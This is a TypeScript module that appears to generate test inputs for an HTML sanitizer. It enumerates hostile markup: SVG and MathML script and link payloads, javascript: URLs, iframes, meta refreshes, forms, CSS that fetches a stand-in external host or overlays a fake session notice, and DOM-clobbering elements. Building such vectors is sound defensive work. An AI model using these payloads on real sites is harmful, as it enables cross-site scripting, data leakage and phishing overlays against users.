// What a document can be made of that it should not be: pictures with scripts, formulas with links, frames, forms,
// styles that fetch or cover, names that stand in for the document's own.

import { addresses, elsewhere, pairs, runs, words } from './vectors.ts'
import { elementNames } from './vectors-handlers.ts'

/** Spread over the list, for sets where all of them would be too many. */
const fewAddresses = addresses.filter((_, nth) => nth % 6 === 0)

const svgs: readonly string[] = [
  ...pairs(
    pairs(
      words('animate set animateTransform animateMotion'),
      words('to from by values'),
      (name, attribute) => [name, attribute].join(' '),
    ),
    pairs(
      words('href xlink:href onclick src style'),
      ['javascript:__pwn()', '__pwn()', `url(${elsewhere}/x)`],
      (name, value) => `${name}|${value}`,
    ),
    (animation, change) => {
      const [name, attribute] = animation.split(' ')
      const [changed, value] = change.split('|')
      return `<svg><a id=x><${name} attributeName=${changed} ${attribute}="${value}" begin=0s dur=1s fill=freeze onbegin=__pwn() /><text y=20>x</text></a></svg>`
    },
  ),
  ...pairs(
    runs,
    words('foreignObject desc title text switch defs symbol metadata'),
    (run, name) => `<svg><${name}>${run}</${name}></svg>`,
  ),
  ...fewAddresses.flatMap((address) => [
    `<svg><use href="${address}#x"/><use xlink:href="${address}#x"/></svg>`,
    `<svg><script href="${address}"/><script xlink:href="${address}"></script></svg>`,
    `<svg><rect fill="url(${address}#x)" filter="url(${address}#x)" mask="url(${address}#x)" width=9 height=9 /></svg>`,
    `<?xml-stylesheet href="${address}"?><svg xml:base="${address}"><image href=x /></svg>`,
  ]),
  '<svg><handler type="application/ecmascript" ev:event=load>__pwn()</handler><script>alert&lpar;1)</script></svg>',
  '<svg><script>__&#112;wn()</script><script>/*<![CDATA[*/__pwn()/*]]>*/</script></svg>',
]

const maths: readonly string[] = [
  ...pairs(
    elementNames.math,
    fewAddresses,
    (name, address) =>
      `<math><${name} href="${address}" xlink:href="${address}" actiontype=toggle src="${address}" altimg="${address}" definitionURL="${address}" style="background:url('${address}')" mathbackground="url('${address}')">x</${name}></math>`,
  ),
  ...pairs(
    ['text/html', 'application/xhtml+xml', 'TEXT/HTML', 'image/svg+xml', 'x'],
    runs,
    (encoding, run) =>
      `<math><semantics><mi>x</mi><annotation-xml encoding="${encoding}">${run}</annotation-xml><annotation>${run}</annotation></semantics></math>`,
  ),
  ...pairs(words('mi mo mn ms mtext'), runs, (name, run) => `<math><${name}>${run}</${name}></math>`),
]

const escaped = (html: string) => html.replaceAll('&', '&amp;').replaceAll('"', '&quot;')

const frames: readonly string[] = [
  ...pairs(
    words('iframe frame fencedframe object embed portal webview'),
    runs,
    (name, run) =>
      `<${name} srcdoc="${escaped(run.replaceAll('__pwn', 'top.__pwn'))}" sandbox="allow-scripts allow-same-origin allow-top-navigation" allow="*"></${name}>`,
  ),
  ...pairs(
    words(
      'alternate stylesheet icon preload prefetch prerender modulepreload import manifest dns-prefetch preconnect pingback help next author license search expect compression-dictionary',
    ),
    words('document image style script font fetch track worker'),
    (rel, as) =>
      `<link rel="${rel}" as=${as} href="${elsewhere}/${rel}" crossorigin onload=__pwn() onerror=__pwn()>`,
  ),
  ...pairs(
    words('refresh Refresh set-cookie content-security-policy x-dns-prefetch-control default-style link'),
    [
      '0;url=/elsewhere.html',
      `0;url=${elsewhere}/`,
      '0;javascript:__pwn()',
      ' 0 ; URL = "/elsewhere.html"',
      "default-src * 'unsafe-inline'",
    ],
    (name, content) =>
      `<meta http-equiv="${name}" content='${content}'><meta name=referrer content=unsafe-url>`,
  ),
  ...words(
    'text/html image/svg+xml application/pdf application/x-shockwave-flash text/x-scriptlet application/xml',
  ).flatMap((type) => [
    `<object type=${type} data="${elsewhere}/x"><embed type=${type} src="${elsewhere}/x"></object>`,
    `<applet codebase="${elsewhere}" code=x archive=x type=${type}></applet>`,
  ]),
  `<script type=speculationrules>{"prerender":[{"urls":["${elsewhere}/"]}]}</script>`,
  `<script type=importmap>{"imports":{"x":"${elsewhere}/"}}</script><script type=module>import "x"</script>`,
]

const forms: readonly string[] = [
  ...pairs(
    words('submit image reset button text file password search url hidden checkbox color date'),
    words('get post dialog'),
    (type, method) =>
      `<form method=${method} action="/elsewhere.html" target=_top><input type=${type} name=p autofocus formaction="javascript:__pwn()" src="${elsewhere}/x.png" onfocus=__pwn()><button formaction="/elsewhere.html" formtarget=_blank>x</button></form>`,
  ),
  ...words('keygen isindex select textarea fieldset output meter progress datalist label menuitem').map(
    (name) =>
      `<form action="/elsewhere.html"><${name} autofocus tabindex=1 prompt=x challenge=x action="/elsewhere.html" formaction="javascript:__pwn()" onfocus=__pwn() onclick=__pwn()>x</${name}></form>`,
  ),
  ...pairs(
    words('dialog div p a'),
    words('auto manual hint'),
    (name, kind) =>
      `<button popovertarget=p popovertargetaction=show commandfor=p command=show-modal interestfor=p>x</button><${name} id=p popover=${kind} open onbeforetoggle=__pwn() ontoggle=__pwn()>${runs[0]}</${name}>`,
  ),
  ...words('div p a b td summary details span').map(
    (name) =>
      `<${name} contenteditable=true autofocus tabindex=1 accesskey=x draggable=true inert onfocus=__pwn() onblur=__pwn() oninput=__pwn() writingsuggestions nonce=x is=x-y>x</${name}>`,
  ),
]

const images = words(
  'url src image image-set -webkit-image-set cross-fade -webkit-cross-fade paint element',
).map((name) => `${name}(URL)`)
const properties = words(
  'background background-image list-style list-style-image border-image border-image-source mask mask-image -webkit-mask -webkit-mask-image -webkit-border-image cursor content filter backdrop-filter clip-path shape-outside offset-path -webkit-box-reflect fill stroke marker behavior -moz-binding --x',
)

const styles: readonly string[] = [
  ...properties.flatMap((property) =>
    images.flatMap((image) => {
      const value = image.replace('URL', `'${elsewhere}/${property}'`)
      const spelled = image.replace('URL', `${elsewhere}/${property}`).replace('url', 'u\\72 l')
      return [
        `<p style="${property}: ${value}" class=x>x</p><style>p, p::before { ${property}: ${value} 1x; content: ${value} }</style>`,
        `<svg><style>* { ${property}: ${spelled} }</style><rect style="${property}: ${spelled}" /></svg>`,
      ]
    }),
  ),
  ...[
    `url(${elsewhere}/i)`,
    `"${elsewhere}/i"`,
    `url("${elsewhere}/i") layer(x) supports(display:block)`,
  ].flatMap((source) => [
    `<style>@import ${source};</style>`,
    `<style>@\\69mport ${source};</style>`,
    `<svg><style>@import ${source};</style></svg>`,
    `<style>@font-face { font-family: x; src: ${source.split(' ')[0]} } * { font-family: x }</style>x`,
    `<style>@namespace ${source.split(' ')[0]}; @charset "x"; @document ${source} { }</style>`,
  ]),
  ...words('fixed absolute sticky').flatMap((position) => [
    `<p style="position: ${position}; inset: 0; z-index: 99999; background: red">Your session ended</p>`,
    `<style>html { position: ${position} } body { display: none } main::before { content: "x" }</style>`,
  ]),
  '<p style="width: expression(__pwn())">x</p><style>@keyframes x { to { background: url(http://elsewhere.example/k) } } p { animation: x 1s }</style>',
]

/** Names of the document that an element could stand in for. */
export function clobbering(names: readonly string[]): string[] {
  const kinds = words('img form iframe embed object a input button p area map meta slot')
  return [
    ...names.map((name) => kinds.map((kind) => `<${kind} name="${name}" id="${name}">`).join('')),
    ...names.map(
      (name) =>
        `<form id="${name}" name="${name}"><input name=attributes><input name=nodeName id="${name}"><input name=parentNode></form><object name="${name}"><a id="${name}" name="${name}" href="cid:x">x</a></object>`,
    ),
  ]
}

export const documents: Readonly<Record<string, readonly string[]>> = {
  'SVG that runs and fetches': svgs,
  'MathML that links and embeds': maths,
  'frames, links and pages that go elsewhere': frames,
  'forms, fields and what opens': forms,
  'styles that fetch and cover': styles,
}
